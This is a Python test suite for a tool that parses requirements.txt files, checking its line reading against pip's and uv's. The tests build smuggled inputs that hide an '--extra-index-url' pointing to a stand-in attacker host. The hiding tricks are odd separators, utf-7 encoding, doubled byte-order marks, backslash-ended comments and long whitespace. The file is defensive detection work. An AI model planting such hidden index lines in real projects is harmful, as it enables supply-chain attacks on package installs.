"""Lines as pip makes them, held against pip itself; and what pip and uv read in two ways."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable, Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy import locks
from proxy.locks.decoding import decoded
from proxy.locks.lines import LONGEST_LINE, logical_lines
from tests.clients import BIN, CLIENTS, Bench

EVIL = "--extra-index-url http://evil.example/simple"
SEPARATORS = ("\n", "\r\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
PIECES = st.sampled_from(
    (*SEPARATORS, "\\", "\\\n", "\\\r\n", "#", " #", "# coding: utf-7\n", "# coding=UTF8", " ", "\t", "\u00a0",
     "\x1f", "\x00", "flask", "==1.0", EVIL, "-r x.txt", "+AC0-", "\ufeff", "${X}", "ä", "\\#")
)  # fmt: skip
CONTENTS = st.one_of(
    st.lists(PIECES, max_size=12).map(lambda pieces: "".join(pieces).encode()),
    st.lists(PIECES, max_size=6).map(lambda pieces: "".join(pieces).encode("utf-16")),
    st.lists(PIECES, max_size=6).map(lambda pieces: b"\xef\xbb\xbf" + "".join(pieces).encode()),
    st.lists(PIECES, max_size=6).map(lambda pieces: "".join(pieces).encode("utf-32")),
    st.lists(PIECES, max_size=6).map(lambda pieces: b"\xff\xfe" + "".join(pieces).encode("utf-16-be")),
    st.binary(max_size=40),
)
PIP = """
import json, sys
sys.path.insert(0, sys.argv[1])
from pip._internal.req import req_file
for line in sys.stdin:
    try:
        text = req_file._decode_req_file(bytes.fromhex(line), "x")
        read = list(req_file.ignore_comments(req_file.join_lines(enumerate(text.splitlines(), start=1))))
    except (UnicodeError, LookupError):
        read = None
    print(json.dumps(read), flush=True)
"""
Pip = Callable[[bytes], list[tuple[int, str]] | None]


@pytest.fixture(scope="module")
def pip() -> Iterator[Pip]:
    """pip's own lines of a file, None for what it does not read."""
    command = [sys.executable, "-X", "utf8", "-W", "ignore", "-c", PIP, str(CLIENTS / "pip-26.3")]
    pipe = subprocess.PIPE
    with subprocess.Popen(command, stdin=pipe, stdout=pipe, stderr=subprocess.DEVNULL, text=True) as process:
        asking, answering = process.stdin, process.stdout
        assert asking is not None
        assert answering is not None

        def lines(content: bytes) -> list[tuple[int, str]] | None:
            asking.write(content.hex() + "\n")
            asking.flush()
            read = json.loads(answering.readline())
            return None if read is None else [(number, line) for number, line in read]

        yield lines
        asking.close()


def ours(content: bytes) -> tuple[list[tuple[int, str]], list[str]]:
    """The lines of a file as the gate reads them, and its faults."""
    faults: list[str] = []
    text = decoded(content)
    if not isinstance(text, str):
        return [], [text.sentence]
    return list(logical_lines(text, lambda _number, sentence: faults.append(sentence))), faults


@settings(deadline=None, max_examples=200)
@given(content=CONTENTS)
def test_lines_are_those_of_pip_or_there_is_a_fault(pip: Pip, content: bytes) -> None:
    lines, faults = ours(content)
    if not faults:
        assert lines == pip(content)


@pytest.mark.parametrize("separator", SEPARATORS)
def test_what_pip_reads_behind_a_separator_is_named(pip: Pip, separator: str) -> None:
    text = f"flask # harmless{separator}{EVIL}\n"
    assert [line for _, line in pip(text.encode()) or ()] == ["flask", EVIL]
    found = locks.read("requirements.txt", text.encode())
    assert [address.url for address in found.addresses] == ["http://evil.example/simple"]
    assert bool(found.faults) == (separator not in {"\n", "\r\n", "\r"})


def test_a_second_mark_that_pip_would_believe_is_a_fault(pip: Pip) -> None:
    content = b"\xff\xfe\xfe\xff" + EVIL.encode("utf-16-be")
    assert pip(content) == [(1, EVIL)]
    (fault,) = locks.read("requirements.txt", content).faults
    assert "two marks" in fault.sentence


@pytest.mark.parametrize("first", ["", "# a comment\n"])
def test_an_encoding_that_pip_would_believe_is_a_fault(pip: Pip, first: str) -> None:
    text = f"{first}# -*- coding: utf-7 -*-\n+AC0ALQ-extra-index-url http://evil.example/simple\n"
    assert EVIL in [line for _, line in pip(text.encode()) or ()]
    found = locks.read("requirements.txt", text.encode())
    assert "It says that it is written in utf-7" in found.faults[0].sentence
    plain = locks.read("requirements.txt", f"{first}# vim: fileencoding=utf-8\nflask\n".encode())
    assert not plain.faults


def test_what_uv_alone_reads_is_a_fault(bench: Bench, pip: Pip) -> None:
    text = f"flask # harmless \\\n{EVIL}\n"
    assert [line for _, line in pip(text.encode()) or ()] == ["flask"]
    path = bench.folder / "requirements.txt"
    path.write_text(text)
    words = ["pip", "compile", "--offline", "-v", "--default-index", "http://127.0.0.1:9/simple", str(path)]
    assert "http://evil.example/simple/flask/" in bench.run([str(BIN / "uv"), *words]).output
    (fault,) = locks.read("requirements.txt", text.encode()).faults
    assert "A comment ends in a backslash" in fault.sentence


def test_what_is_far_down_a_line_is_not_passed_over() -> None:
    found = locks.read("requirements.txt", f"flask{' ' * LONGEST_LINE}{EVIL}\nclick\n".encode())
    assert [(fault.where.line, "longer than" in fault.sentence) for fault in found.faults] == [(1, True)]
    assert [locked.project for locked in found.locked] == ["click"]
